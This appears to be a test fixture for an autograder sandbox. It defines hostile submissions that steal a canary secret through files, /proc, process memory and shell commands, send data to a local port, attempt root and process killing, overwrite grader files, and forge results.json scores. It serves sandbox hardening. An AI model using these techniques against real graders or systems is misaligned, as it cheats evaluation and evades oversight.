"""Attempts to get at what is secret, or to change what is the grader's."""

from functools import partial
from textwrap import indent

from .fixture import CONFINED, Hostile, joined, together

secrets = partial(Hostile, "secrets", secret=True)

# Ways out for a secret: the report by print and by exception, a file, the network. All secrets
# begin alike, so that they can be searched for.
LEAK = """
    import os, re, socket, sys

    SECRET = re.compile(rb"canary-[0-9a-f]{16}")


    def leak(content):
        content = content if isinstance(content, bytes) else str(content).encode()
        for found in set(SECRET.findall(content)):
            text = found.decode()
            print("LEAK", text, flush=True)
            try:
                with open("@drop@/%s" % os.getpid(), "a") as file:
                    file.write(text)
            except OSError:
                pass
            try:
                with socket.create_connection(("127.0.0.1", @port@), 1) as connection:
                    connection.sendall(found)
            except OSError:
                pass
            raise RuntimeError("LEAK " + text)


    def leak_file(path):
        try:
            with open(path, "rb") as file:
                leak(file.read(2**24))
        except OSError as error:
            print(path, error.strerror)
"""
LEAKED = ("LEAK canary-",)


def leaking(name, statements, more="", **options):
    """Make a row that looks for secrets and lets them out."""
    return secrets(
        name,
        code={"sigmoid": "look()\nreturn x * 0 + 4000"},
        top=joined(
            LEAK,
            more,
            "def look():\n" + indent(statements, "    "),
        ),
        **options,
    )


SECRETS = [
    leaking(
        "reads files whose paths it knows",
        "for path in PATHS:\n    leak_file(path)",
        """
            PATHS = (
                "@canary@", "@solution@/word2vec.py", "@solution@/sgd.py", "@others@/alice/word2vec.py",
                "@grader@/grader.py", "@grader@/notes.txt", "@base@/results/previous.json",
            )
        """,
        teeth=LEAKED,
    ),
    leaking(
        "searches the file system",
        "for folder, _, files in os.walk('@base@'):\n"
        "    print(folder, files)\n"
        "    for name in files:\n"
        "        if '@upload@' not in folder:\n"
        "            leak_file(os.path.join(folder, name))\n"
        "for folder in ('.', '..', '../..', '../../..', '/', '/tmp', '/autograder', '/home', '/root'):\n"
        "    try:\n"
        "        print(os.listdir(folder))\n"
        "    except OSError as error:\n"
        "        print(folder, error)",
        teeth=LEAKED,
    ),
    leaking(
        "reads the grader's environment, memory and files through /proc",
        "for process in [os.getppid(), *filter(str.isdigit, listed('/proc'))]:\n"
        "    if str(process) == str(os.getpid()):\n"
        "        continue\n"
        "    leak_file(f'/proc/{process}/environ')\n"
        "    for number in listed(f'/proc/{process}/fd'):\n"
        "        if os.path.isfile(f'/proc/{process}/fd/{number}'):\n"
        "            leak_file(f'/proc/{process}/fd/{number}')\n"
        "    leak_file(f'/proc/{process}/cwd/notes.txt')\n"
        "    leak_file(f'/proc/{process}/root@canary@')",
        "def listed(folder):\n"
        "    try:\n"
        "        return os.listdir(folder)\n"
        "    except OSError:\n"
        "        return range(64) if folder.endswith('fd') else range(2, os.getpid())\n",
        teeth=LEAKED,
    ),
    leaking(
        "looks through its own objects, arguments and environment",
        "import gc\n"
        "leak(repr(sys.argv) + repr(dict(os.environ)) + repr(sys.path) + repr(sys.orig_argv))\n"
        "for thing in gc.get_objects():\n"
        "    if type(thing) in (dict, list, tuple):\n"
        "        try:\n"
        "            leak(repr(thing))\n"
        "        except RuntimeError:\n"
        "            raise\n"
        "        except Exception:\n"
        "            pass\n"
        "names = [name for name in sys.modules if name.split('.')[0] in NAMES]\n"
        "print('MODULES', names)\n"
        "assert not names",
        "NAMES = 'grader graderUtil grading solution'.split()\n",
        hides=("MODULES ['",),
    ),
    leaking(
        "imports the solution and the grader",
        "for name in 'solution solutions soln grader graderUtil grading grading.cases staff tests'.split():\n"
        "    try:\n"
        "        module = importlib.import_module(name)\n"
        "    except ImportError:\n"
        "        continue\n"
        "    print('IMPORTED', name, list(getattr(module, '__path__', [])))\n"
        "    leak(repr(vars(module)))",
        "import importlib\n"
        "sys.path[:0] = ['..', '../..', '@base@', '@grader@', '@base@/staff', '@solution@']\n",
        teeth=("IMPORTED grading",),
    ),
    leaking(
        "reads all that is open",
        "sockets = 0\n"
        "for number in range(3, 1024):\n"
        "    try:\n"
        "        about = os.fstat(number)\n"
        "        sockets += stat.S_ISSOCK(about.st_mode)\n"
        "        if sockets > 1:\n"
        "            print('OPEN', number, 'another socket than the one to the grader')\n"
        "        if not stat.S_ISSOCK(about.st_mode):\n"
        "            os.set_blocking(number, False)\n"
        "            print('OPEN', number, stat.filemode(about.st_mode))\n"
        "            leak(os.read(number, 2**20))\n"
        "    except (OSError, ValueError) as error:\n"
        "        pass",
        "import stat\n",
        hides=("OPEN ",),
    ),
    leaking(
        "lets other programs read",
        "import subprocess\n"
        "for command in COMMANDS:\n"
        "    try:\n"
        "        done = subprocess.run(command, shell=True, capture_output=True, timeout=4)\n"
        "        print(done.stderr)\n"
        "        leak(done.stdout)\n"
        "    except OSError as error:\n"
        "        print(error)",
        "COMMANDS = ('cat @canary@', 'sudo -n cat @canary@', 'su -c \"cat @canary@\"', "
        "'unshare -Ur cat @canary@', 'cat /proc/$PPID/environ')\n",
        teeth=LEAKED,
    ),
    leaking(
        "has the grader show a secret file's lines",
        "leak_trace()",
        """
            def leak_trace():
                linecache = __import__("linecache")
                code = "\\n\\n\\n\\n\\ndef f():\\n    raise ValueError('look at my line')\\nf()"
                exec(compile(code.lstrip(), "@canary@", "exec"), {})
        """,
    ),
    leaking(
        "names a secret file in a SyntaxError",
        "raise SyntaxError('look', ('@canary@', 1, 1, None))",
    ),
]

CHANGING = secrets(
    "changes its inputs so that the answer is right",
    code={
        "sigmoid": "x[...] = 0\nreturn np.full(np.shape(x), 0.5)",
        "naive_softmax_loss_and_gradient": "center_word_vec[:] = 0\noutside_vectors[:] = 0\n"
        "V, d = outside_vectors.shape\nreturn np.log(V), np.zeros(d), np.zeros((V, d))",
        "skipgram": "outside_words.clear()\nword2ind.clear()\nreturn 0.0, np.zeros_like("
        "center_word_vectors), np.zeros_like(outside_vectors)",
        "sgd": "f.__dict__.update(a=0, b=0)\nx0 *= 0\nreturn x0",
    },
    fails="2a-0 2a-1 2a-2 2a-4 2a-6 2a-7 2b-3 2b-4",
)

MEMORY = leaking(
    "reads the memory of the processes around it",
    "process = os.getpid()\n"
    "for number in [process, os.getppid(), *range(process - 40, process + 10)]:\n"
    "    leak_memory(number)",
    """
        import ctypes

        def leak_memory(process):
            libc = ctypes.CDLL(None, use_errno=True)
            if libc.ptrace(0x4206, process, None, None) == 0:
                print("SEIZED", process)
            try:
                with open(f"/proc/{process}/maps") as file:
                    maps = file.read().splitlines()
                with open(f"/proc/{process}/mem", "rb", buffering=0) as memory:
                    for line in maps:
                        start, end = (int(part, 16) for part in line.split()[0].split("-"))
                        if "rw" in line and end - start < 2**28:
                            memory.seek(start)
                            leak(memory.read(end - start))
            except (OSError, ValueError) as error:
                print(process, error)
    """,
    hides=("SEIZED",),
    without=("system calls",),
    bound=25,
)


# A function that tries what must not be done, and says what was.
TRY = """
    import ctypes, os, signal


    def attempt(said, *attempts):
        for one in attempts:
            try:
                one()
                print(said)
            except OSError as error:
                print(error)
"""


def confined(name, statements, top="", **options):
    """Make a row whose sigmoid does what confinement prevents."""
    code = {"sigmoid": f"{statements}\nreturn x"}
    return Hostile("confinement", name, code=code, top=joined(TRY, top), secret=True, **options)


CONFINEMENT = [
    confined(
        "closes the folders around it",
        "for path in FOLDERS:\n    attempt('', lambda: os.chmod(path, 0))",
        'FOLDERS = "..", "@base@/results", "@grader@", "@base@/staff", "@upload@", "@base@/tmp"',
        levels=CONFINED,
    ),
    confined(
        "becomes root again",
        "rise()",
        """
        def rise():
            attempt(
                "ROSE",
                lambda: os.setuid(0), lambda: os.seteuid(0), lambda: os.setresuid(0, 0, 0),
                lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.chroot("/"),
                lambda: os.mknod("null", 0o20666, os.makedev(1, 3)), lambda: os.nice(-5),
            )
            print("ROOT" if 0 in (*os.getresuid(), *os.getresgid(), *os.getgroups()) else "none")
            libc = ctypes.CDLL(None, use_errno=True)
            print("UNSHARED" if libc.unshare(0x00020000) == 0 else "no mounts")
        """,
        hides=("ROSE", "ROOT", "UNSHARED"),
    ),
    confined("kills the process above it", "os.kill(os.getppid(), signal.SIGKILL)"),
    confined(
        "stops the process above it",
        "os.kill(os.getppid(), signal.SIGSTOP)",
        seconds=2,
        bound=60,
    ),
    confined(
        "kills all that it may",
        "if os.getuid() == 0:\n    raise ValueError('ROOT')\n"
        "os.kill(-1, signal.SIGTERM)\nos.kill(-1, signal.SIGKILL)",
        hides=("ROOT",),
        levels=CONFINED,
    ),
    confined("kills its own group and session", "os.killpg(0, signal.SIGKILL)"),
    confined(
        "writes into the grader, the solution and the upload",
        "for path in FILES:\n    change(path)",
        """
        FILES = (
            "@canary@", "@solution@/word2vec.py", "@solution@/new.py", "@grader@/grader.py",
            "@grader@/points.json", "@grader@/utils/utils.py", "@grader@/sandbox/worker.py",
            "@upload@/submission/word2vec.py", "@upload@/submission/new.py", "@base@/new",
        )

        def change(path):
            attempt(
                "CHANGED " + path,
                lambda: open(path, "a").write("# changed"),
                lambda: os.chmod(path, 0o666),
                lambda: os.utime(path, (0, 0)),
                lambda: os.replace(path, path + "~"),
                lambda: os.unlink(path),
                lambda: os.truncate(path, 0),
                lambda: os.setxattr(path, "user.changed", b""),
            )
        """,
        hides=("CHANGED",),
        teeth=("CHANGED",),
    ),
]  # fmt: skip


def networked(name, statements):
    """Make a row whose sigmoid uses the network."""
    return Hostile(
        "tcp",
        name,
        code={"sigmoid": f"{statements}\n    print('GOT THROUGH')\nreturn x"},
        top="import socket\n",
        hides=("GOT THROUGH",),
        without=("system calls",),
    )


MARKED = "b'from @mark@ ' + repr(x).encode()"
TCP = [
    networked(
        "sends its inputs to a port",
        "with socket.create_connection(('127.0.0.1', @port@), 2) as connection:\n"
        f"    connection.sendall({MARKED})",
    ),
    networked(
        "sends its inputs in a datagram",
        "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:\n"
        f"    sender.sendto({MARKED}, ('127.0.0.1', @port@))",
    ),
    networked(
        "listens on a port",
        "with socket.create_server(('127.0.0.1', 0)) as server:\n    server.getsockname()",
    ),
]

# Everywhere that the grader's results might be.
PLACES = """
    import os

    FORGED = '{"score": 99, "tests": [{"score": 99, "max_score": 99, "status": "passed"}]}'
    GUESSES = ["/autograder/results/results.json", "@results@", "results.json", "../results.json",
               "../../results.json", "../../../results.json", "@base@/results.json",
               "@base@/results/.results.json.tmp"]


    def forge():
        for path in GUESSES:
            try:
                with open(path, "w") as file:
                    file.write(FORGED)
                print("FORGED", path)
            except OSError:
                pass
"""


def writing(name, statements, **options):
    """Make a row whose sigmoid would write results.json."""
    return Hostile("writer", name, code={"sigmoid": statements}, top=PLACES, **options)


WRITER = [
    writing("writes results.json and leaves", "forge()\nos._exit(0)", teeth=("FORGED",)),
    writing(
        "leaves a process that writes results.json later",
        """
            import time

            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    while True:
                        forge()
                        time.sleep(0.05)
                os._exit(0)
            return x
        """,
    ),
    writing("prints results.json", "forge()\nprint(FORGED)\nreturn x"),
]

ROWS = [
    CHANGING,
    *together([*SECRETS, MEMORY, *CONFINEMENT]),
    *together(TCP),
    *together(WRITER),
]
